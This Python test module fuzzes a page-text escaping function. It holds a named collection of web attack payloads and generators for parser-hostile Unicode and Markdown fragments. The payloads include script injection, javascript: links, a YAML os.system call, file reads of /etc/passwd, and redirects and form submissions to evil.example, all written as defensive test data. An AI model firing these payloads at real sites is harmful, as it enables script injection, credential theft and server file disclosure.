"""The strings that are most likely to do something to a page, and a way to draw many others."""

from __future__ import annotations

from hypothesis import HealthCheck, Phase, given, seed, settings
from hypothesis import strategies as st

from digest.text.escape import clean

CALL = "window.hacked=1,alert(1)"
"""What each attack runs if it gets through: both a mark on the window and a dialog."""

ATTACKS: dict[str, str] = {
    "script": f"<script>{CALL}</script>",
    "end of title": f"</title></h1></p><script>{CALL}</script>",
    "end of textarea": f"</textarea></style></noscript></template><script>{CALL}</script>",
    "event handler": f'<img src=x onerror="{CALL}">',
    "handler in an attribute": f"\" onmouseover=\"{CALL}\" autofocus onfocus='{CALL}' x='",
    "SVG": f"<svg/onload={CALL}><animate onbegin={CALL} attributeName=x dur=1s>",
    "frame": f'<iframe srcdoc="<script>parent.hacked=1</script>" src="javascript:{CALL}"></iframe>',
    "javascript link": f"[read](javascript:{CALL}) <javascript:{CALL}> ![x](javascript:{CALL})",
    "javascript in disguise": f"[a](java&#115;cript:{CALL}) [b](JaVa\tScRiPt:{CALL}) [c](java&NewLine;script&colon;{CALL})",
    "javascript by reference": f"[a][r] [r]\n\n[r]: javascript:{CALL} 'x'",
    "javascript with controls": f"\x01java\nscript:{CALL}//\x00\x0b",
    "data": "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGFja2VkPTE8L3NjcmlwdD4= [x](data:text/html,<script>1</script>)",
    "vbscript": f"<a href=' vbscript:{CALL}'>x</a> [x](vbscript:{CALL})",
    "file by snippet": '--8<-- "/etc/passwd"\n\n--8<--\n/etc/passwd\n--8<--',
    "template": "{{7*7}} {{ config }} {% include '/etc/passwd' %} {# gone #} ${7*7} #{7*7} <%= 7*7 %>",
    "YAML": "!!python/object/apply:os.system ['touch /tmp/hacked'] &a [*a] *b : - ? | > %TAG ! @ `",
    "front matter": "---\ntitle: hacked\ntemplate: nope.html\n---\n\nhacked",
    "front matter without marks": "Template: nope.html\nhide: all\n\nhacked",
    "comment": f"<!-- --> x <!--><script>{CALL}</script> --!> <!-- unfinished",
    "declarations": f"<![CDATA[ x ]]> <?php {CALL} ?> <!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]> &y;",
    "attribute list": f"# x {{: onclick='{CALL}' style='position:fixed;inset:0' }} {{: #headline .d-sr }} {{onclick={CALL}}}",
    "Markdown in HTML": f'<div markdown="1" onclick="{CALL}" style="position:fixed">\n\n**x**\n\n</div>',
    "footnotes and abbreviations": "x[^1] HTML\n\n[^1]: note\n\n*[HTML]: gone\n\n!!! danger\n    x\n\n[TOC] :smile: ==x== ^^x^^",
    "direction": "\u202egnp.exe \u2066\u2067\u200f abc \u2069\u061c \ufeff\u200b",
    "controls": "a\x00b\x08c\x1bd\x7fe\x85f\u2028g\u2029h\ud800i\ufffej\x02wzxhzdk:0\x03klzzwxh:0001",
    "very long words": "W" * 600 + " " + "<" * 300 + " " + "m\u0300\u0301\u0302\u0303" * 80,
    "style": f'<style>*{{display:none}}body{{background:url(//evil.example/x)}}</style><p style="x:expression({CALL})">@import',
    "refresh": '<meta http-equiv="refresh" content="0;url=//evil.example/"><link rel=stylesheet href=//evil.example/x.css>',
    "base": '<base href="//evil.example/"><form action=//evil.example/><input autofocus><button formaction=//evil.example/>',
    "double decoding": (
        f"&lt;script&gt;{CALL}&lt;/script&gt; &amp;lt;b&amp;gt; &#60;i&#62; &#x3C;u&#x3E; %3Cscript%3E \\u003cscript\\u003e"
    ),
}
"""What it tries: the string."""

FRAGMENTS = [
    *"* ** _ __ ` ``` ~~~ # ## - + > | |---| --- === ![ ]( [^1] [TOC] : !!! ??? {: } { } {{ }} {% %} {# #} $ $$ ^ ~ @".split(),
    *"= == ++ < > </ /> <!-- --> <? ?> <![CDATA[ ]]> & &lt; &lt &#60; &#x3c; &amp;lt; &quot; &#39; &NewLine; &colon; ;".split(),
    *["\\", "\\\\", "\\<", "\\(", "'", '"', "'''", "/", "//"],
    *"<b> </p> </h1> </title> </script> <script> <style> onclick= style= href= src= javascript: data: http://x.example".split(),
    *"mailto: www.x.example a@x.example #123 @user (c) (tm) 1/2 --8<-- :smile: --> <-- !!python !!str &a *a ? %YAML".split(),
    *"... null No 1. 2016. a) i. title:".split(),
    *["    ", "\t", "\n", "\n\n", "\r\n", "\r", " ", "  \n", "\n---\n", "\n...\n", "\nx: y\n", "\n# x\n", "\n> ", "\n- "],
    *["\n    ", "\x00", "\x02", "\x03", "\x0b", "\x0c", "\x1b", "\x1c", "\x1e", "\x7f", "\x85", "\x95", "\xa0", "\xad"],
    *["\u2028", "\u2029", "\u200b", "\u200d", "\u200e", "\u202e", "\u2066", "\u2069", "\u061c", "\ufeff", "\u2060", "\u3000"],
    *["\ud800", "\udfff", "\ufffe", "é", "e\u0301", "ß", "İ", "“", "’", "日本", "العربية", "עברית", "\U0001f600", "🇯🇵"],
    *["\U0001f468\u200d\U0001f469", "\U000e0041", "wzxhzdk:0", "klzzwxh:0001", "\x02amp\x03", "\x02klzzwxh:0\x03"],
    *["Summit", "says", "U.S.", "£159.2bn", "no", "<" * 40, "a" * 200],
]
"""Pieces that mean something to a parser on the way to a page."""

TEXTS = st.one_of(
    st.lists(st.sampled_from(FRAGMENTS), min_size=1, max_size=8).map("".join),
    st.lists(st.sampled_from(FRAGMENTS), min_size=1, max_size=8).map(" ".join),
    st.text(alphabet=st.characters(), min_size=1, max_size=60),
    st.text(alphabet=st.sampled_from(r"""!"#$%&'()*+,-./:;<=>?@[\]^_`{|}~ab1 """), min_size=1, max_size=40),
    st.sampled_from(sorted(ATTACKS.values())),
)
"""Arbitrary Unicode, leaning to what Markdown, HTML, Jinja and YAML act on."""


def draw(count: int, number: int) -> list[str]:
    """Give so many different strings, the attacks first; another ``number``, other strings."""
    found = dict.fromkeys(ATTACKS.values())

    @settings(max_examples=40, database=None, deadline=None, phases=[Phase.generate], suppress_health_check=list(HealthCheck))
    @given(st.lists(TEXTS, min_size=20, max_size=20))  # many at once: most of the time goes into beginning an example
    def collect(texts: list[str]) -> None:
        found.update(dict.fromkeys(texts))

    while len(found) < count:
        seed(number)(collect)()
        number += 1000
    return list(found)[:count]


def shown(text: str) -> str:
    """Give a text as a page must show it: clean, each run of white space one space."""
    return " ".join(clean(text).split())
